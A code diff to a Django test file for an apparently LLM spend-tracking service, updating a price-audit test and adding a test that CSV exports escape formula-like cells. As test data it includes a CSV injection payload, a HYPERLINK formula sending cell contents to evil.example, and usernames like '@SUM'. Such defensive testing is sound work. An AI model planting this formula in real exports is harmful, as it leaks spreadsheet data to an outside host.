@@ -146,9 +146,11 @@ def test_a_price_change_is_audited(team, prices):
     admin = get_user_model().objects.create_superuser("boss", "boss@example.com", "pw")
     price = Price.objects.get(name="mistral-small-latest")
     price.output_usd_per_mtok = Decimal("0.90")
-    price_save(price=price, actor=admin, changed=["output_usd_per_mtok"])
+    price_save(price=price, actor=admin)
     (event,) = AuditEvent.objects.filter(action=AuditEvent.Action.PRICE_CHANGED)
-    assert (event.actor, event.details["output_usd_per_mtok"]) == (admin, "0.90")
+    assert (event.actor, event.details["changed"]) == (admin, ["output_usd_per_mtok"])
+    before, after = event.details["before"], event.details["after"]
+    assert (before["output_usd_per_mtok"], after["output_usd_per_mtok"]) == ("0.600000", "0.90")
 
 
 def test_budget_exceeded_is_a_402_application_error(team, analyst):
@@ -171,3 +173,25 @@ def test_analyze_below_every_soft_threshold_skips_the_warnings_budget_query(as_u
     # budget lookup (the only query reading billing_budget outside the reservation) did not run.
     budget_reads = [q["sql"] for q in queries.captured_queries if 'FROM "billing_budget"' in q["sql"]]
     assert len(budget_reads) == (0 if connection.vendor == "postgresql" else 1)
+
+
+def test_spend_csv_cells_cannot_become_formulas_in_a_spreadsheet(as_user, team, reviewer):
+    from tests.factories import member
+
+    at_user = member(team, user__username="@SUM")  # valid Django usernames may start with @, + or -
+    minus_user = member(team, user__username="-2+3")
+    formula_model = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    span(ApprovalRequestFactory(user=at_user, team=team), at_user, formula_model, "0.1")
+    span(ApprovalRequestFactory(user=minus_user, team=team), minus_user, "mistral-small-latest", "0.2")
+
+    by_user = as_user(reviewer).get("/api/spend?groupBy=user", HTTP_ACCEPT="text/csv")
+    rows = list(csv.DictReader(io.StringIO(by_user.content.decode())))
+    assert [(r["user"], r["costUsd"]) for r in rows] == [("'-2+3", "0.20000000"), ("'@SUM", "0.10000000")]
+    by_model = as_user(reviewer).get("/api/spend?groupBy=model", HTTP_ACCEPT="text/csv")
+    models = [r["model"] for r in csv.DictReader(io.StringIO(by_model.content.decode()))]
+    assert "'" + formula_model in models and formula_model not in models
+    # JSON is data, not a spreadsheet: it keeps the values as they are.
+    assert {r["user"] for r in as_user(reviewer).get("/api/spend?groupBy=user").json()["results"]} == {
+        "@SUM",
+        "-2+3",
+    }
